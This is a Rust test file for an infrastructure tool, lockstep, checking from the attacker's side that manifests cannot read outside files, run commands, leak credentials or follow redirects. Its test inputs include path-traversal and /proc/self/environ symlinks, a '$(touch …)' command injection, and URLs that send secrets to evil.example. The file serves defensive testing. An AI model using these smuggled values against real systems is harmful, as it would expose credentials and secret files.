//! Tests of threats that docs/threat-model.md calls closed and that no other test shows: with the program itself, from
//! the attacker's side.

use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value as Json, json};

use super::lab::{Folder, Proxy, QUICKSTART, Site, Twin, json_reply, lockstep};
use crate::support::quickstart_with_helper;

fn quickstart_with(from: &str, to: &str) -> String {
    let text = std::fs::read_to_string(QUICKSTART).expect("the quickstart");
    assert!(text.contains(from), "{from}");
    text.replace(from, to)
}

/// A pull request tries to read the runner's files: by an upward path, by an absolute one, by a link as part of it.
#[test]
fn a_manifest_reads_nothing_outside_of_its_folder() {
    let (folder, twin) = (Folder::new(), Twin::start());
    let site = Site::new(&twin, 1);
    std::fs::create_dir(folder.path("stack")).expect("folder");
    let secret = "outside-of-the-folder-7c1e";
    let outside = folder.write("outside.pem", secret);
    symlink(&outside, folder.path("stack/link.pem")).expect("link");
    symlink("..", folder.path("stack/up")).expect("link");
    for path in ["../outside.pem", outside.as_str(), "link.pem", "up/outside.pem", "./../outside.pem"] {
        for (from, to) in [
            ("friendly_name: Acme", format!("friendly_name: \"${{file.{path}}}\"")),
            (
                "code: builtin:twilio-verify-fetch",
                format!("code: \"{}{path}\"", if path.contains('/') { "" } else { "./" }),
            ),
        ] {
            let manifest = folder.write("stack/lockstep.yaml", &quickstart_with(from, &to));
            let run = site.lockstep("plan", &manifest, &["-vvv"]).run().expect(1);
            assert!(!(run.out + &run.err).contains(secret), "{to}");
        }
    }
    assert_eq!(twin.log().len(), 0, "refused before the first request");
}

/// A repository can contain links. The manifest is a link to this process's environment, to a file of secrets, through
/// a chain, or through a folder. A file that is not a manifest is not shown either, wherever it is.
#[test]
fn a_manifest_that_is_a_link_shows_nothing_of_what_it_leads_to() {
    let folder = Folder::new();
    std::fs::create_dir(folder.path("stack")).expect("folder");
    let secret = "hidden-behind-a-link-58e2";
    for (name, text) in [
        ("secrets.env", format!("API_TOKEN={secret}\n")),
        ("secrets.yaml", format!("database:\n  {secret}: {secret}\n")),
        ("stack/inside.env", format!("API_TOKEN={secret}\n\t: {secret}\n")),
        ("stack/inside.yaml", format!("stack: {secret}\n{secret}: [{secret}\n")),
        ("stack/list.yaml", format!("- {secret}\n- a: {secret}\n")),
    ] {
        folder.write(name, &text);
    }
    for (link, to) in [
        ("environ.yaml", "/proc/self/environ"),
        ("env.yaml", "../secrets.env"),
        ("yaml.yaml", "../secrets.yaml"),
        ("chain.yaml", "yaml.yaml"),
        ("folder", "/proc/self"),
        ("allowed.yaml", "inside.env"),
    ] {
        symlink(to, folder.path("stack").join(link)).expect("link");
    }
    for name in [
        "environ.yaml",
        "env.yaml",
        "yaml.yaml",
        "chain.yaml",
        "folder/environ",
        "allowed.yaml",
        "inside.yaml",
        "list.yaml",
    ] {
        for command in ["validate", "plan"] {
            let manifest = folder.text_path(&format!("stack/{name}"));
            let run = lockstep(&[command, &manifest, "-vvv"]).env("API_TOKEN", secret).run().expect(1);
            assert!(!(run.out + &run.err).contains(secret), "{command} {name}");
        }
    }
    symlink("real.yaml", folder.path("stack/good.yaml")).expect("link");
    folder.write("stack/real.yaml", &quickstart_with("stack: acme-login", "stack: acme-login"));
    lockstep(&["validate", &folder.text_path("stack/good.yaml")]).run().expect(0);
}

/// An option gives the manifest, the Action's code, the plan or the certificates as a place to write to.
#[test]
fn nothing_is_written_over_what_the_command_reads() {
    let folder = Folder::new();
    let code = "exports.onExecuteCustomPhoneProvider = async () => {};\n";
    folder.write("sender.js", code);
    let text = quickstart_with("code: builtin:twilio-verify-fetch", "code: ./sender.js");
    let manifest = folder.write("lockstep.yaml", &text);
    let ca = folder.write("ca.pem", "certificates");
    std::fs::hard_link(&manifest, folder.path("second-name")).expect("link");
    symlink("lockstep.yaml", folder.path("link")).expect("link");
    let path = |name: &str| folder.text_path(name);
    let file = |name: &str| format!("file:{}", path(name));
    let world = |name: &str| format!("--twin={}", path(name));
    let [code_file, new] = ["sender.js", "new"].map(path);
    for arguments in [
        vec!["apply", &manifest, "--yes", "--twin", "--audit", &manifest],
        vec!["apply", &manifest, "--yes", "--twin", "--audit", &code_file],
        vec!["apply", &manifest, "--yes", "--twin", "--audit", &path("second-name")],
        vec!["apply", &manifest, "--yes", "--twin", "--audit", &path("link")],
        vec!["apply", &manifest, "--yes", "--twin", "--ca-file", &ca, "--audit", &ca],
        vec!["apply", &manifest, "--yes", "--twin", "--ledger", &file("new"), "--audit", &new],
        vec!["apply", &manifest, "--yes", "--twin", "--ledger", &file("lockstep.yaml")],
        vec!["destroy", &manifest, "--yes", "--twin", "--audit", &code_file],
        vec!["plan", &manifest, "--twin", "--out", &code_file],
        vec!["plan", &manifest, &world("sender.js")],
        vec!["drift", &manifest, &world("new"), "--ledger", &file("new")],
        vec!["twin", "--world", &new, "--log", &new],
    ] {
        let run = lockstep(&arguments).run().expect(64);
        assert!(run.err.contains("name another file"), "{arguments:?}: {}", run.err);
        assert_eq!(folder.read("lockstep.yaml"), text, "{arguments:?}");
        assert_eq!(
            (folder.read("sender.js").as_str(), folder.read("ca.pem").as_str()),
            (code, "certificates")
        );
        assert!(!folder.path("new").exists(), "{arguments:?}");
    }
}

/// A pipe that nobody reads would block the run for ever, and a link in a folder that everybody can write may be
/// anybody's.
#[test]
fn what_is_written_goes_to_no_pipe_and_through_no_link_of_others() {
    let folder = Folder::new();
    let pipe = folder.text_path("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().expect("mkfifo can be run").success());
    std::fs::create_dir(folder.path("shared")).expect("folder");
    std::fs::set_permissions(folder.path("shared"), std::fs::Permissions::from_mode(0o1777)).expect("mode");
    let mine = folder.write("mine", "mine");
    let link = folder.text_path("shared/link");
    symlink(&mine, &link).expect("link");
    for target in [pipe.as_str(), link.as_str(), "/dev/null"] {
        let (ledger, world) = (format!("file:{target}"), format!("--twin={target}"));
        for arguments in [
            vec!["apply", QUICKSTART, "--yes", "--twin", "--audit", target],
            vec!["plan", QUICKSTART, "--twin", "--out", target],
            vec!["apply", QUICKSTART, "--yes", "--twin", "--ledger", &ledger],
            vec!["plan", QUICKSTART, &world],
            vec!["twin", "--world", target],
            vec!["twin", "--log", target],
            vec!["twin", "--tls", "--ca-out", target],
        ] {
            lockstep(&arguments).run().expect(64);
        }
    }
    assert_eq!(folder.read("mine"), "mine");
}

/// The next start after a kill during a save.
#[test]
fn a_world_that_was_half_saved_is_removed_by_the_next_start() {
    let folder = Folder::new();
    let world = format!("--twin={}", folder.text_path("world.json"));
    lockstep(&["apply", QUICKSTART, "--yes", &world]).run().expect(0);
    folder.write(".world.json.fffffff000000001.tmp", "{");
    folder.write(".world.json.note.tmp", "somebody's");
    lockstep(&["plan", QUICKSTART, &world]).run().expect(0);
    assert!(!folder.path(".world.json.fffffff000000001.tmp").exists());
    assert_eq!(folder.read(".world.json.note.tmp"), "somebody's");
}

/// Only the command line can allow commands, whatever a manifest says.
#[test]
fn a_manifest_runs_no_command() {
    let folder = Folder::new();
    let proof = folder.text_path("proof");
    for name in [format!("touch {proof}"), format!("$(touch {proof})"), "vault".to_owned()] {
        let manifest = quickstart_with("friendly_name: Acme", &format!("friendly_name: \"${{cmd.{name}}}\""));
        let manifest = folder.write("lockstep.yaml", &manifest);
        let run = lockstep(&["plan", &manifest, "--twin"]).env("PATH", "/usr/bin:/bin").run();
        assert_eq!(run.code, Some(1), "{name}: {}", run.out);
    }
    assert!(!folder.path("proof").exists());
}

/// The manifest sends a credential through a field that it may set: `verify_service.friendly_name: ${env.…}`, and the
/// like.
#[test]
fn a_manifest_sends_no_credential_to_where_others_read() {
    let (folder, twin) = (Folder::new(), Twin::start());
    let site = Site::new(&twin, 1);
    let endpoint = "endpoint: https://acme-feedback.example/auth0-logs";
    for (from, to) in [
        ("friendly_name: Acme", "friendly_name: ${env.AUTH0_CLIENT_SECRET}"),
        ("friendly_name: Acme", "friendly_name: ${twilio.api_secret}"),
        (endpoint, "endpoint: https://evil.example/${env.TWILIO_API_SECRET}"),
        ("${generated.feedback} ", "${auth0.client_secret} "),
    ] {
        let manifest = folder.write("lockstep.yaml", &quickstart_with(from, to));
        let run = site.lockstep("apply", &manifest, &["--yes"]).run().expect(1);
        assert!(run.err.contains("can be read by others"), "{to}: {}", run.err);
    }
    assert_eq!(twin.log().len(), 0, "refused before the first request");
}

/// The same credentials in another spelling: by another variable, by a file or a link beside the manifest, from the
/// sender's secret, in another vendor's field.
#[test]
fn a_credential_by_another_spelling_does_not_leave_either() {
    let (folder, twin) = (Folder::new(), Twin::start());
    let site = Site::new(&twin, 1);
    let secret = site.env["AUTH0_CLIENT_SECRET"].clone();
    folder.write("secret.txt", &secret);
    symlink("secret.txt", folder.path("link.txt")).expect("link");
    let same = |value: &str| STANDARD.encode(value);
    let authorization = "${generated.feedback} ";
    let endpoint = "endpoint: https://acme-feedback.example/auth0-logs";
    for (from, to) in [
        (authorization, "${file.secret.txt} "),
        (authorization, "${file.link.txt} "),
        (authorization, "Bearer ${env.SAME} "),
        (authorization, "${env.ENCODED} "),
        (authorization, "${env.TWILIO_SENDER_SECRET} "),
        (endpoint, "endpoint: https://evil.example/${env.TWILIO_SENDER_SECRET}"),
        (endpoint, "endpoint: https://evil.example/${env.SAME}"),
        (
            "# universal_login:",
            "branding:\n  logo_url: https://evil.example/${env.TWILIO_SENDER_SECRET}\n# universal_login:",
        ),
        ("${env.AUTH0_CLIENT_ID}", "${env.TWILIO_SENDER_SECRET}"),
        ("${env.AUTH0_CLIENT_ID}", "${env.TWILIO_API_SECRET}"),
    ] {
        for command in ["plan", "drift", "apply"] {
            let manifest = folder.write("lockstep.yaml", &quickstart_with(from, to));
            let run = site
                .lockstep(command, &manifest, if command == "apply" { &["--yes"] } else { &[] })
                .env("SAME", &secret)
                .env("ENCODED", &same(&secret))
                .run()
                .expect(1);
            assert!(run.err.contains("can be read by others"), "{command} {to}: {}", run.err);
            assert!(run.err.contains("lockstep.yaml:"), "{command} {to}: {}", run.err);
            let shown = run.out + &run.err;
            assert!(!shown.contains(&secret) && !shown.contains(&same(&secret)), "{to}: {shown}");
        }
    }
    let by_root = quickstart_with(authorization, "${file./secret.txt} ");
    let manifest = folder.write("lockstep.yaml", &by_root);
    let run = site.lockstep("plan", &manifest, &[]).run().expect(1);
    assert!(run.err.contains("does not start in the manifest's folder"), "{}", run.err);
    assert_eq!(twin.log().len(), 0, "refused before the first request");
}

/// A script filled in the manifest with a mistake, and the drawn line ends up in a log.
#[test]
fn a_drawn_line_shows_nothing_of_the_environment() {
    let folder = Folder::new();
    let (token, key) = ("a-token-of-the-runner-58e2", "first-line-of-a-key\nsecond-line-of-a-key");
    for (from, to) in [
        ("friendly_name: Acme", format!("friendly_name: {token}\n  code_length: 99 # {token}")),
        ("friendly_name: Acme", format!("friendly_name: [\"second-line-of-a-key {token}\"]")),
        ("stack: ", format!("stakc: {token} # ")),
        ("lockstep: v1", format!("lockstep: v1 # {token}\n\"{token}: [")),
    ] {
        let manifest = folder.write("lockstep.yaml", &quickstart_with(from, &to));
        for command in ["validate", "plan"] {
            let run = lockstep(&[command, &manifest])
                .env("RUNNER_TOKEN", token)
                .env("RUNNER_KEY", key)
                .run()
                .expect(1);
            let shown = run.out + &run.err;
            assert!(!shown.contains(token) && !shown.contains("second-line"), "{shown}");
            assert!(shown.contains("lockstep.yaml:"), "{shown}");
        }
    }
}

/// A pull request writes another tenant's domain into the manifest, so that the token would be requested there.
#[test]
fn no_token_is_asked_for_where_only_the_manifest_says() {
    let (folder, twin) = (Folder::new(), Twin::start());
    let site = Site::new(&twin, 1);
    // All outgoing requests use this proxy, so one connection to it would be a leak.
    let outside = TcpListener::bind("127.0.0.1:0").expect("a port");
    outside.set_nonblocking(true).expect("not waiting");
    let proxy = format!("http://{}", outside.local_addr().expect("bound"));
    let run = |domain: &str, command: &str, args: &[&str]| {
        let manifest = folder.write("lockstep.yaml", &quickstart_with("${env.AUTH0_DOMAIN}", domain));
        lockstep(&[command, &manifest])
            .args(args)
            .envs(&site.env)
            .env("HTTPS_PROXY", &proxy)
            .env("GITHUB_HEAD_REF", "evil.example")
            .run()
    };
    for command in ["plan", "drift", "apply", "destroy", "show", "unlock"] {
        for domain in [
            "evil.example",
            "acme.auth0.com.evil.example",
            "evilauth0.com",
            "evil.${env.AUTH0_DOMAIN}.example",
            // The name of the pull request's branch.
            "${env.GITHUB_HEAD_REF}",
        ] {
            let run = run(domain, command, &[]).expect(1);
            assert!(run.err.contains("add --domain"), "{command} {domain}: {}", run.err);
        }
        let run = run("acme.eu.auth0.com", command, &["--domain", "tenant-1.eu.auth0.com"]).expect(1);
        assert!(run.err.contains("--domain names tenant-1.eu.auth0.com"), "{command}: {}", run.err);
    }
    assert!(outside.accept().is_err(), "somebody came");
    // Any domain is accepted if the caller names it, or if the requests stay on this machine.
    let manifest = folder.write("lockstep.yaml", &quickstart_with("${env.AUTH0_DOMAIN}", "login.example"));
    site.lockstep("plan", &manifest, &[]).run().expect(0);
    site.lockstep("plan", &manifest, &["--domain", "login.example"]).run().expect(0);
    lockstep(&["plan", &manifest, "--twin"]).run().expect(0);
    let named = lockstep(&["plan", &manifest, "--domain", "login.example"])
        .envs(&site.env)
        .env("HTTPS_PROXY", &proxy)
        .start();
    outside.set_nonblocking(false).expect("waiting");
    outside.accept().expect("asked once it is named");
    super::lab::signal("TERM", named.id());
    drop(outside);
    assert_ne!(named.wait().code, Some(0));
}

/// A hijacked endpoint redirects every request to another host, with every kind of redirect.
#[test]
fn credentials_follow_no_redirect() {
    let twin = Twin::start();
    let elsewhere = TcpListener::bind("127.0.0.1:0").expect("a port");
    elsewhere.set_nonblocking(true).expect("not waiting");
    let target = format!("http://{}", elsewhere.local_addr().expect("bound"));
    for (number, status) in (1..).zip([301u16, 302, 303, 307, 308]) {
        let location = format!("location: {target}/oauth/token\r\nrefresh: 0; url={target}\r\n");
        let proxy = Proxy::start(&twin, move |_, _| json_reply(status, &location, &json!({})));
        let run = Site::new(&twin, number).through(&proxy).run("plan", &[]).expect(1);
        assert!(run.err.contains(&status.to_string()), "{}", run.err);
        assert_eq!(proxy.seen().len(), 1, "{status}: asked once");
    }
    assert!(elsewhere.accept().is_err(), "somebody came");
}

/// On a machine with several users, only the owner can read ledger, plan, world, audit and log, even if a file of that
/// name existed and was open to all.
#[test]
fn what_is_written_is_for_its_owner_only() {
    let (folder, twin) = (Folder::new(), Twin::start());
    let site = Site::new(&twin, 1);
    for name in ["plan", "ledger", "world"] {
        // The file is replaced as a whole, so its earlier permissions do not matter.
        folder.write(name, "");
        std::fs::set_permissions(folder.path(name), std::fs::Permissions::from_mode(0o666)).expect("mode");
    }
    std::fs::remove_file(folder.path("ledger")).expect("gone");
    std::fs::remove_file(folder.path("world")).expect("gone");
    let ledger = format!("file:{}", folder.text_path("ledger"));
    site.run("plan", &["--out", &folder.text_path("plan")]).expect(0);
    site.run("apply", &["--yes", "--ledger", &ledger, "--audit", &folder.text_path("audit")]).expect(0);
    let world = format!("--twin={}", folder.text_path("world"));
    lockstep(&["apply", QUICKSTART, "--yes", &world]).run().expect(0);
    for name in ["plan", "ledger", "audit", "world"] {
        let mode = std::fs::metadata(folder.path(name)).expect(name).permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{name} is {mode:o}");
    }
    let names = std::fs::read_dir(folder.path("")).expect("folder").count();
    assert_eq!(names, 4, "no temporary file is left");
}

fn prints(site: &Site) -> (String, Vec<String>) {
    fn walk(json: &Json, found: &mut Vec<String>) {
        match json {
            Json::String(text) if text.starts_with("slow:") || text.starts_with("fast:") => {
                found.push(text.clone())
            }
            Json::Array(items) => items.iter().for_each(|item| walk(item, found)),
            Json::Object(entries) => entries.values().for_each(|item| walk(item, found)),
            _ => {}
        }
    }
    let ledger = site.actions().into_iter().find(|action| action["name"] == "Lockstep ledger (acme-login)");
    let code = ledger.expect("a ledger")["code"].as_str().expect("source").to_owned();
    let encoded = code.split('\'').find_map(|part| part.strip_prefix("v1.")).expect("a payload");
    let bytes = STANDARD.decode(encoded.split_once('.').expect("a checksum").1).expect("base64");
    let json: Json = serde_json::from_slice(&bytes).expect("JSON");
    let mut found = Vec::new();
    walk(&json, &mut found);
    (json["salt"].as_str().expect("a salt").to_owned(), found)
}

/// Whoever can read Actions can read the record. Guessing a person's secret from it costs a tenth of a second per
/// guess, and a guess for one tenant does not help for another.
#[test]
fn a_record_is_no_help_in_guessing() {
    let twin = Twin::start();
    let mut sites = [Site::new(&twin, 1), Site::new(&twin, 2)];
    let mut seen = Vec::new();
    for site in &mut sites {
        site.env.insert("TWILIO_SENDER_SECRET".into(), "correct horse battery".into());
        site.run("apply", &["--yes"]).expect(0);
        seen.push(prints(site));
    }
    let [(salt, one), (other_salt, two)] = &seen[..] else { panic!("two") };
    assert_ne!(salt, other_salt);
    assert!(salt.len() == 32, "{salt}");
    for list in [one, two] {
        let slow: Vec<&String> = list.iter().filter(|print| print.starts_with("slow:")).collect();
        assert!(!slow.is_empty(), "{list:?}");
        let rounds = |print: &str| print.split(':').nth(1).and_then(|n| n.parse::<u32>().ok()).unwrap_or(0);
        assert!(slow.iter().all(|print| rounds(print) >= 200_000), "{slow:?}");
    }
    assert!(one.iter().all(|print| !two.contains(print)), "equal secrets have unequal prints");
}

/// The credentials belong to another account than the manifest's, which is noticed before any other write.
#[test]
fn credentials_of_another_account_change_nothing() {
    let twin = Twin::start();
    let mut site = Site::new(&twin, 1);
    site.env.insert("TWILIO_ACCOUNT_SID".into(), "AC0123456789abcdef0123456789abcdef".into());
    let mark = twin.mark();
    let run = site.run("apply", &["--yes", "--lease-ttl", "1s"]);
    assert_eq!(run.code, Some(1), "{}", run.err);
    let writes: Vec<String> = twin
        .writes_since(mark)
        .into_iter()
        .filter(|line| !line.contains("serverless.twilio.com /v1/Services"))
        .collect();
    assert_eq!(writes, Vec::<String>::new());
}

/// Whoever has a standard key of the account can read the Function's variables; our own key is not among them.
#[test]
fn the_function_gets_no_key_of_ours() {
    let (folder, twin) = (Folder::new(), Twin::start());
    let mut site = Site::new(&twin, 1);
    for (name, value) in
        [("TWILIO_FEEDBACK_KEY", "SK0f0f"), ("TWILIO_FEEDBACK_SECRET", "Feedback-Key-Secret-91c2")]
    {
        site.env.insert(name.into(), value.into());
    }
    let function = "feedback:\n  function:\n    code: builtin:verify-feedback\n    api_key: ${env.TWILIO_FEEDBACK_KEY}\n    api_secret: ${env.TWILIO_FEEDBACK_SECRET}\n";
    let text = quickstart_with("feedback:\n", function)
        .replace("    endpoint: https://acme-feedback.example/auth0-logs   # the receiver, https only\n", "");
    let manifest = folder.write("lockstep.yaml", &text);
    site.lockstep("apply", &manifest, &["--yes"]).run().expect(0);
    let env = site.env.clone();
    let world: Json = serde_json::from_str(&twin.stop()).expect("JSON");
    let account = &world["world"]["accounts"][&env["TWILIO_ACCOUNT_SID"]];
    let services = account["serverless_services"].to_string();
    assert!(services.contains("Feedback-Key-Secret-91c2"), "it has its own: {services}");
    for name in ["TWILIO_API_SECRET", "TWILIO_SENDER_SECRET", "AUTH0_CLIENT_SECRET"] {
        assert!(!services.contains(&env[name]), "{name} is in the Function");
    }
}

/// Tomorrow, the registry may give another version than the one reviewed today.
#[test]
fn a_version_that_may_move_is_told() {
    let folder = Folder::new();
    for version in ["latest", "^6.2.0", "\">=6\"", "\"*\""] {
        let manifest = folder.write("lockstep.yaml", &quickstart_with_helper().replace("6.2.0", version));
        let run = lockstep(&["plan", &manifest, "--twin"]).run();
        assert!((run.out + &run.err).contains("not pinned"), "{version}");
    }
}

/// Every user of the machine can see the list of processes.
#[test]
fn no_secret_is_an_argument() {
    fn walk(command: &clap::Command, found: &mut Vec<String>) {
        let names = command.get_arguments().map(|argument| argument.get_id().as_str().to_lowercase());
        found.extend(names);
        command.get_subcommands().for_each(|inner| walk(inner, found));
    }
    let mut names = Vec::new();
    walk(&lockstep::cli::command(), &mut names);
    assert!(names.len() > 20, "{names:?}");
    for name in names {
        let carries = ["secret", "token", "password", "key"].iter().any(|word| name.contains(word));
        // It says where the key is, env:NAME or file:PATH, and takes no key.
        assert!(!carries || name == "record_key", "{name}");
    }
    let given =
        ["rollout", "fleet.yaml", "--record", "file:x", "--record-key", "0123456789abcdef0123456789abcdef"];
    let run = lockstep(&given).run().expect(64);
    assert!(run.err.contains("it is not env:NAME or file:PATH"), "{}", run.err);
}
